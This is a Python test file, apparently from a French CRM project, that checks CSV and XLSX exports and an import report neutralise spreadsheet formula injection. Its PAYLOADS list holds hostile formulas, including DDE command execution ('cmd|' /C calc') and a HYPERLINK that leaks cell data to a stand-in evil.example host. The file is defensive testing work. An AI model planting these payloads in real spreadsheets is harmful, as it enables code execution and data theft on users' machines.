"""Formula injection on the way out, where test_csv_export.py and test_xlsx_export.py stop.

Those check the sample base's hostile prospect (values the service has trimmed). Here: every text
column of both spreadsheet formats with every payload, including the ones only a file or an older
base can hold (a leading tab, return, blank or no-break space); payloads that came in through a
real import; and the import report's details CSV, which is made of the imported file's own cells.
"""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from moovdesk.exporting import ExportFormat, export_prospects, write_records
from moovdesk.exporting.formulas import neutralize
from moovdesk.exporting.records import EXPORT_FIELDS, FIELD_KINDS, ExportRecord, FieldKind
from moovdesk.geo.gazetteer import Gazetteer
from moovdesk.importing.importer import ImportOptions, import_table
from moovdesk.importing.mapping import auto_map
from moovdesk.importing.plan import ImportPlan
from moovdesk.importing.reader import read_table
from moovdesk.importing.report import ImportReport
from moovdesk.services import Services
from tests.conftest import FIXED_NOW
from tests.exporting.conftest import Sample

CORPUS = Path(__file__).resolve().parents[1] / "data" / "bad"
TEXT_COLUMNS = [
    name for name in EXPORT_FIELDS if FIELD_KINDS[name] is FieldKind.TEXT and name != "id"
]
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "+A1",
    "-SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0@SUM(1)",
    "\u202f=1+1",
    "=1+1\n=2+2",
    "+33 6 12 34 56 78 ou =1+1",
    "-",
]
# Text that must reach the spreadsheet exactly: numbers, phones and words are not formulas.
HARMLESS = ["+33 6 12 34 56 78", "-12,5", "1+1", "a=b", "'déjà", "Zoé", "- 45 000", ""]


def read_csv_cells(path: Path) -> list[dict[str, object]]:
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    rows = list(reader)
    assert tuple(rows[0]) == EXPORT_FIELDS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def read_xlsx_cells(path: Path) -> list[dict[str, object]]:
    sheet = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Prospects")
    rows = sheet.to_python(skip_empty_area=False)
    return [dict(zip(EXPORT_FIELDS, row, strict=True)) for row in rows[1:]]


def assert_no_formula_in(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "<hyperlink" not in sheet


def hostile_records(services: Services, sample: Sample, values: list[str]) -> list[ExportRecord]:
    """One record per value, every text column holding it (rows the service could not make)."""
    base = services.prospects.rows([sample.town_hall])[0]
    records = []
    for index, value in enumerate(values):
        fields: dict[str, Any] = dict.fromkeys(TEXT_COLUMNS, value)
        fields["id"] = f"row-{index}"
        records.append(ExportRecord(dataclasses.replace(base, **fields, tags=(value, "VIP"))))
    return records


@pytest.mark.parametrize("kind", [ExportFormat.CSV, ExportFormat.XLSX])
def test_every_text_column_is_neutralised_with_every_payload(
    services: Services, sample: Sample, tmp_path: Path, kind: ExportFormat
) -> None:
    target = tmp_path / f"prospects.{kind.value}"
    values = PAYLOADS + HARMLESS
    records = hostile_records(services, sample, values)
    assert write_records(target, kind, [records], total=len(records)) == len(records)
    if kind is ExportFormat.CSV:
        rows = read_csv_cells(target)
    else:
        assert_no_formula_in(target)
        rows = read_xlsx_cells(target)
    assert len(rows) == len(values)
    for value, row in zip(values, rows, strict=True):
        for column in TEXT_COLUMNS:
            cell = row[column]
            assert cell == neutralize(value), (column, value, cell)
            if value in PAYLOADS:
                assert cell == "'" + value, (column, value)
            else:
                assert cell == value, (column, value)
        assert row["tags"] == neutralize(f"{value}, VIP")
    every_cell = [cell for row in rows for cell in row.values() if isinstance(cell, str)]
    assert all(neutralize(cell) == cell for cell in every_cell)


def import_file(services: Services, path: Path) -> ImportReport:
    table = read_table(path)
    sample = [cells for _line, cells in list(table.iter_rows())[:20]]
    plan = ImportPlan.for_table(table, auto_map(table.header, sample))
    return import_table(
        services.store,
        table,
        plan,
        file_name=path.name,
        options=ImportOptions(),
        gazetteer=Gazetteer.shared(),
    )


@pytest.mark.parametrize("kind", [ExportFormat.CSV, ExportFormat.XLSX])
def test_imported_payloads_are_stored_as_text_and_exported_neutralised(
    services: Services, tmp_path: Path, kind: ExportFormat
) -> None:
    for name in ("csv_injection.csv", "html_in_fields.csv", "sql_text.csv"):
        assert import_file(services, CORPUS / name).imported > 0
    stored = {row.id: row for row in services.prospects.rows(services.prospects.ids())}
    assert "=cmd|' /C calc'!A0" in {row.company for row in stored.values()}  # kept verbatim
    target = tmp_path / f"prospects.{kind.value}"
    assert export_prospects(services.store, target, kind, now=FIXED_NOW) == len(stored)
    if kind is ExportFormat.CSV:
        rows = read_csv_cells(target)
    else:
        assert_no_formula_in(target)
        rows = read_xlsx_cells(target)
    for row in rows:
        original = stored[str(row["id"])]
        for column in ("company", "city", "notes", "first_name", "last_name"):
            expected = getattr(original, column)
            assert row[column] == neutralize(expected), (column, expected)
            if row[column] != expected:  # one mark in front, nothing else changed
                assert row[column] == "'" + expected, (column, expected)
    every_cell = [cell for row in rows for cell in row.values() if isinstance(cell, str)]
    assert all(neutralize(cell) == cell for cell in every_cell)


def test_the_import_report_details_are_neutralised(services: Services, tmp_path: Path) -> None:
    """The rows-to-check CSV repeats the imported file's own cells: a spreadsheet must not run
    them either, with the exports' rule (leading blanks looked through, phones left alone)."""
    lines = [["Société", "Téléphone", "Relance le"]]
    for index, payload in enumerate(PAYLOADS):
        if "\r" in payload or "\n" in payload:
            continue  # a line break inside a cell is another test's business
        lines.append([f"Société {index}", payload, payload])
    lines.append(["Téléphone ok", "+33 6 12 34 56 78", "=1+1"])
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(lines)
    source = tmp_path / "hostile.csv"
    source.write_text(buffer.getvalue(), encoding="utf-8")

    report = import_file(services, source)
    assert report.problems, report.summary()
    details = tmp_path / "details.csv"
    report.save_details(details)
    text = details.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["line", "outcome", "reason", "column", "value"]
    cells = [cell for row in rows[1:] for cell in row]
    unsafe = [cell for cell in cells if neutralize(cell) != cell]
    assert unsafe == []
    values = {row[4] for row in rows[1:]}
    assert "' =1+1" in values and "'\u00a0@SUM(1)" in values
